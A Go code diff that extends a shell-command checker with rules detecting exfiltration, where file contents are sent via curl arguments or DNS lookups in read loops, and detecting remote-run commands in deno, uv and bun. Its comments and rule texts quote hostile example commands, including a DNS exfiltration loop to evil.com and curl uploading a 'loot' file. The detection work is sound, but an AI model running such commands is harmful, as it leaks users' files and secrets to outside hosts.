@@ -37,6 +37,9 @@ func init() {
 		"pasted":             "a local file posted to a paste or gist service (pastebinit, gist, gh gist create|edit)",
 		"pipedFileSent":      "a file's content piped into nc, socat, telnet or an upload of standard input by curl or wget, to another host",
 		"minerRun":           "a cryptocurrency miner run (xmrig, cpuminer, …, or a stratum+tcp:// pool given)",
+		"argCarriesFile":     "curl, wget or httpie sending a local file's content in an argument computed from it (a URL, -d \"$(cat FILE)\")",
+		"readLoopSent":       "a file read line by line and each line sent in a DNS name or a URL (while read l; do dig $l.HOST; done)",
+		"remoteRun":          "deno, uv or bun told to run a program from a URL",
 		"powershellFetchRun": "PowerShell fetching a script and running it (IEX … DownloadString, iwr … | iex)",
 	} {
 		ruleTexts[k] = v
@@ -59,6 +62,8 @@ func (c *checker) network(u unit) {
 	c.pasted(cmd, name)
 	c.minerRun(cmd, name)
 	c.powershellFetchRun(cmd, name)
+	c.argCarriesFile(cmd, name, u.dir)
+	c.remoteRun(cmd, name)
 }
 
 // plainWords are args' literal words that are not options, stopping at
@@ -990,4 +995,159 @@ func urlOperand(cmd *shell.Command) string {
 		}
 	}
 	return ""
+}
+
+// httpSenders send what their arguments hold to the host they name.
+var httpSenders = map[string]bool{"curl": true, "wget": true, "http": true, "https": true, "xh": true, "xhs": true}
+
+// credentialArgOpts hand a request its credentials or settings, not its
+// content: a file read into one is used, not sent on (README: "a secret
+// file is read when its content reaches … a place others read, not when it
+// is used").
+var credentialArgOpts = map[string]bool{"-H": true, "--header": true, "-u": true, "--user": true, "-b": true, "--cookie": true,
+	"-A": true, "--user-agent": true, "-e": true, "--referer": true, "--oauth2-bearer": true, "-E": true, "--cert": true,
+	"--key": true, "--cacert": true, "-K": true, "--config": true, "--proxy-user": true, "-U": true, "--http-user": true,
+	"--http-password": true, "--password": true, "--header=": true}
+
+// substitutionReadsFile reports a word whose command substitution prints
+// a local file's content ($(cat notes.txt), $(base64 -w0 f)).
+func substitutionReadsFile(w shell.Word) bool {
+	if w.Literal || !strings.ContainsAny(w.Raw, "$`") {
+		return false
+	}
+	s := shell.Parse(": " + w.Raw)
+	for i := range s.Commands {
+		if s.Commands[i].Nested && readsLocalFile(&s.Commands[i]) {
+			return true
+		}
+	}
+	return false
+}
+
+// argCarriesFile flags curl, wget or httpie sending a local file's
+// content in an argument computed from it (a URL's path or query, -d,
+// --post-data): the same upload as "curl -d @notes.txt", spelt with a
+// substitution. Its credential options (-H, -u, --cookie) use what they
+// read, and a request to this machine sends nothing away.
+func (c *checker) argCarriesFile(cmd *shell.Command, name, dir string) {
+	if !httpSenders[name] || onlyLocal(cmd.Args) {
+		return
+	}
+	for i, a := range cmd.Args {
+		if i > 0 && credentialArgOpts[cmd.Args[i-1].Lit] {
+			continue
+		}
+		if opt, _, ok := strings.Cut(a.Raw, "="); ok && credentialArgOpts[opt] {
+			continue
+		}
+		if substitutionReadsFile(a) && !c.onlyLiteralFiles(a, dir) {
+			c.because(name, a.Raw)
+			c.add(NetworkExfiltration)
+			return
+		}
+	}
+}
+
+// onlyLiteralFiles reports a substitution whose files the line itself
+// wrote from literal text before ("echo … > /tmp/loot.txt; curl -d
+// "$(cat /tmp/loot.txt)" …"): the README's uploads of a file the line
+// wrote with a literal string leak nothing.
+func (c *checker) onlyLiteralFiles(w shell.Word, dir string) bool {
+	s := shell.Parse(": " + w.Raw)
+	seen := false
+	for i := range s.Commands {
+		for _, f := range s.Commands[i].Files() {
+			if !f.Read {
+				continue
+			}
+			if !c.writtenLiterally(shell.Resolve(f.Path, dir, c.home)) {
+				return false
+			}
+			seen = true
+		}
+	}
+	return seen
+}
+
+// loopVarSent reports whether word w uses variable v as a DNS label
+// ($v.host), in a URL (…://…$v…) or as the whole of a ping pattern.
+func loopVarSent(w shell.Word, v string) bool {
+	raw := strings.Trim(w.Raw, `"'`)
+	for _, ref := range []string{"$" + v, "${" + v + "}"} {
+		at := strings.Index(raw, ref)
+		if at < 0 {
+			continue
+		}
+		after := raw[at+len(ref):]
+		if ref == "$"+v && after != "" && (after[0] == '_' || after[0] >= 'a' && after[0] <= 'z' || after[0] >= 'A' && after[0] <= 'Z' || after[0] >= '0' && after[0] <= '9') {
+			continue // $vx is another variable
+		}
+		if strings.HasPrefix(after, ".") && len(after) > 1 || strings.Contains(raw, "://") {
+			return true
+		}
+	}
+	return false
+}
+
+// readLoopSent flags a file's content read line by line ("xxd -p f |
+// while read l; do dig $l.evil.com; done", "while read l; do curl
+// URL?d=$l; done < f") and each line sent in a DNS name or a URL: the
+// README's "sending a file ... in ping payloads" in its DNS and HTTP
+// spellings.
+func (c *checker) readLoopSent(units [][]unit) {
+	fileRead := false
+	vars := map[string]bool{}
+	for _, us := range units {
+		for _, u := range us {
+			cmd := &u.cmd
+			if readsLocalFile(cmd) {
+				fileRead = true
+			}
+			if !cmd.Dynamic && cmd.Name == "read" {
+				for _, w := range plainWords(cmd.Args, "-d", "-n", "-N", "-p", "-t", "-u", "-a") {
+					vars[w] = true
+				}
+				if slices.ContainsFunc(cmd.Redirects, func(r shell.Redirect) bool { return r.Read }) {
+					fileRead = true
+				}
+			}
+		}
+	}
+	if !fileRead || len(vars) == 0 {
+		return
+	}
+	for _, us := range units {
+		for _, u := range us {
+			cmd := &u.cmd
+			if cmd.Dynamic || !dnsClients[path.Base(cmd.Name)] && !httpSenders[path.Base(cmd.Name)] {
+				continue
+			}
+			for _, a := range cmd.Args {
+				for v := range vars {
+					if !a.Literal && loopVarSent(a, v) {
+						c.because(path.Base(cmd.Name), a.Raw)
+						c.add(NetworkExfiltration)
+						return
+					}
+				}
+			}
+		}
+	}
+}
+
+// remoteRun flags a runtime told to fetch a program from a URL and run it
+// ("deno run https://…/x.ts", "uv run https://…/x.py", "bun run
+// https://…"): download-execute as "curl … | sh" is.
+func (c *checker) remoteRun(cmd *shell.Command, name string) {
+	if name != "deno" && name != "uv" && name != "bun" {
+		return
+	}
+	w := plainWords(cmd.Args)
+	if len(w) < 2 || w[0] != "run" {
+		return
+	}
+	if strings.HasPrefix(w[1], "https://") || strings.HasPrefix(w[1], "http://") {
+		c.because(name, w[0], w[1])
+		c.add(DownloadExecute)
+	}
 }
